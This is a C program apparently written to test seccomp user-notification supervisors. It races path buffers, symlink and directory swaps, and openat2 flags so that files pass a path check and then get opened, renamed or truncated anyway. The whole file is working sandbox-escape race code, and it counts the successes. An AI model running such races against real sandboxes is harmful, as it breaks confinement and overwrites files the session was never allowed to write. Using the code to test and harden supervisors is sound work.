/* The race that makes SECCOMP_USER_NOTIF_FLAG_CONTINUE unsafe for writes:
 * one thread keeps flipping the path buffer between a file the session may
 * write (ALLOWED) and one it never read (VICTIM, same name length), while
 * the main thread write-opens whatever the buffer says. A supervisor that
 * checks the path and lets the kernel open it again would open VICTIM now
 * and then. Prints how many of TRIES opens reached VICTIM's inode.
 *   rgrace VICTIM ALLOWED TRIES
 * With --link the thread swaps two symlinks instead (LINK -> VICTIM and
 * LINK.alt -> ALLOWED, with RENAME_EXCHANGE) and the main thread opens LINK.
 *   rgrace --link LINK VICTIM ALLOWED TRIES
 * With --read the thread flips the buffer between A and B (same length)
 * while the main thread read-opens it, and after each read that reached
 * VICTIM's inode write-opens VICTIM by its own name. Prints how many reads
 * reached VICTIM and how many of those writes went through.
 *   rgrace --read A B VICTIM TRIES
 * With --dirs the thread swaps directories A and B (RENAME_EXCHANGE) while
 * the main thread writes a new file and renames it onto B/NAME, having read
 * B/NAME first. A's NAME is the victim: a rename checked on one directory
 * and carried out in the other replaces it. Prints how many renames the
 * supervisor let through.
 *   rgrace --dirs A B NAME TRIES
 * With --how the thread flips openat2's flags, in the struct in memory,
 * between O_PATH and O_WRONLY|O_TRUNC while the main thread openat2s
 * VICTIM: a supervisor that checked O_PATH and let the kernel redo the call
 * would truncate it now and then. Prints how many calls gave a descriptor
 * that can write, and how many failed with ENOSYS. --how-high sets a flag
 * bit above 32 with O_PATH, which no kernel knows: a checker that passes
 * such a call on to fail, rather than failing it itself, lets the kernel
 * read the flags again.
 *   rgrace --how|--how-high VICTIM TRIES */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[4096];
static const char *names[2];
static atomic_int stop;

static void *flip(void *arg)
{
    (void)arg;
    size_t n = strlen(names[0]);
    for (unsigned i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++)
        memcpy(path, names[i & 1], n + 1);
    return NULL;
}

/* Starts flip on names a and b, the buffer holding first's name. */
static pthread_t start_flipping(const char *a, const char *b, int first)
{
    pthread_t th;
    names[0] = a;
    names[1] = b;
    snprintf(path, sizeof path, "%s", names[first]);
    pthread_create(&th, NULL, flip, NULL);
    return th;
}

static void stop_racer(pthread_t th)
{
    atomic_store(&stop, 1);
    pthread_join(th, NULL);
}

/* Did the open give fd on victim's inode? */
static bool reached(int fd, const struct stat *victim)
{
    struct stat st;
    return fstat(fd, &st) == 0 && st.st_ino == victim->st_ino && st.st_dev == victim->st_dev;
}

/* TRIES, by strtol: a count that is not a number is no tries at all. */
static long count(const char *s)
{
    char *end;
    long n = strtol(s, &end, 10);
    return *s && !*end ? n : 0;
}

/* Write-opens name tries times while the racer th runs, then stops it and
 * prints how many opens gave a descriptor and how many reached victim. */
static int write_opens(const char *name, long tries, const struct stat *victim, pthread_t th)
{
    long hits = 0, opened = 0;
    for (long i = 0; i < tries; i++) {
        int fd = open(name, O_WRONLY);
        if (fd < 0)
            continue;
        opened++;
        hits += reached(fd, victim);
        close(fd);
    }
    stop_racer(th);
    printf("opened %ld victim %ld\n", opened, hits);
    return 0;
}

static void *swap(void *arg)
{
    const char *link = arg;
    char alt[4096];
    snprintf(alt, sizeof alt, "%s.alt", link);
    while (!atomic_load_explicit(&stop, memory_order_relaxed))
        renameat2(AT_FDCWD, link, AT_FDCWD, alt, RENAME_EXCHANGE);
    return NULL;
}

static int link_race(char **argv)
{
    struct stat victim;
    char alt[4096];
    snprintf(alt, sizeof alt, "%s.alt", argv[0]);
    if (stat(argv[1], &victim) != 0 || symlink(argv[1], argv[0]) != 0 ||
        symlink(argv[2], alt) != 0) {
        perror("rgrace: set-up");
        return 2;
    }
    pthread_t th;
    pthread_create(&th, NULL, swap, argv[0]);
    return write_opens(argv[0], count(argv[3]), &victim, th);
}

static int read_race(char **argv)
{
    struct stat victim;
    if (strlen(argv[0]) != strlen(argv[1]) || stat(argv[2], &victim) != 0) {
        fprintf(stderr, "usage: rgrace --read A B VICTIM TRIES (A, B of equal length)\n");
        return 2;
    }
    long tries = count(argv[3]), hits = 0, wrote = 0;
    pthread_t th = start_flipping(argv[0], argv[1], 0);
    for (long i = 0; i < tries; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        bool hit = reached(fd, &victim);
        close(fd);
        if (!hit)
            continue;
        hits++;
        if ((fd = open(argv[2], O_WRONLY)) >= 0) {
            wrote++;
            close(fd);
        }
    }
    stop_racer(th);
    printf("read victim %ld wrote %ld\n", hits, wrote);
    return 0;
}

static void *swap_dirs(void *arg)
{
    char **dirs = arg;
    while (!atomic_load_explicit(&stop, memory_order_relaxed))
        renameat2(AT_FDCWD, dirs[0], AT_FDCWD, dirs[1], RENAME_EXCHANGE);
    return NULL;
}

static int dirs_race(char **argv)
{
    char dest[4096], buf[64];
    snprintf(dest, sizeof dest, "%s/%s", argv[1], argv[2]);
    int fd = open(dest, O_RDONLY);
    if (fd < 0 || read(fd, buf, sizeof buf) < 0) {
        perror("rgrace: reading the destination");
        return 2;
    }
    close(fd);
    long tries = count(argv[3]), renamed = 0;
    pthread_t th;
    pthread_create(&th, NULL, swap_dirs, argv);
    for (long i = 0; i < tries; i++) {
        fd = open("rgrace.new", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0)
            continue;
        if (write(fd, "mine\n", 5) != 5)
            perror("rgrace: write");
        close(fd);
        renamed += rename("rgrace.new", dest) == 0;
    }
    stop_racer(th);
    unlink("rgrace.new");
    printf("renamed %ld\n", renamed);
    return 0;
}

static struct open_how how;
static __u64 path_flags = O_PATH | O_CLOEXEC;

static void *flip_how(void *arg)
{
    (void)arg;
    const __u64 flags[2] = {path_flags, O_WRONLY | O_TRUNC | O_CLOEXEC};
    for (unsigned i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++)
        __atomic_store_n(&how.flags, flags[i & 1], __ATOMIC_RELAXED);
    return NULL;
}

static int how_race(char **argv)
{
    long tries = count(argv[1]), wrote = 0, enosys = 0;
    how.flags = path_flags;
    pthread_t th;
    pthread_create(&th, NULL, flip_how, NULL);
    for (long i = 0; i < tries; i++) {
        int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[0], &how, sizeof how);
        if (fd < 0) {
            enosys += errno == ENOSYS;
            continue;
        }
        wrote += (fcntl(fd, F_GETFL) & (O_PATH | O_ACCMODE)) == O_WRONLY;
        close(fd);
    }
    stop_racer(th);
    printf("wrote %ld enosys %ld\n", wrote, enosys);
    return 0;
}

static int usage(void)
{
    fprintf(stderr, "usage: rgrace VICTIM ALLOWED TRIES (names of equal length)\n");
    return 2;
}

/* The race without an option: write-opens of the flipping buffer. */
static int buffer_race(char **argv)
{
    struct stat victim;
    if (strlen(argv[0]) != strlen(argv[1]) || stat(argv[0], &victim) != 0)
        return usage();
    pthread_t th = start_flipping(argv[0], argv[1], 1);
    return write_opens(path, count(argv[2]), &victim, th);
}

int main(int argc, char **argv)
{
    if (argc == 6 && strcmp(argv[1], "--link") == 0)
        return link_race(argv + 2);
    if (argc == 6 && strcmp(argv[1], "--read") == 0)
        return read_race(argv + 2);
    if (argc == 6 && strcmp(argv[1], "--dirs") == 0)
        return dirs_race(argv + 2);
    if (argc == 4 && strcmp(argv[1], "--how") == 0)
        return how_race(argv + 2);
    if (argc == 4 && strcmp(argv[1], "--how-high") == 0) {
        path_flags |= 1ULL << 32;
        return how_race(argv + 2);
    }
    return argc == 4 ? buffer_race(argv + 1) : usage();
}
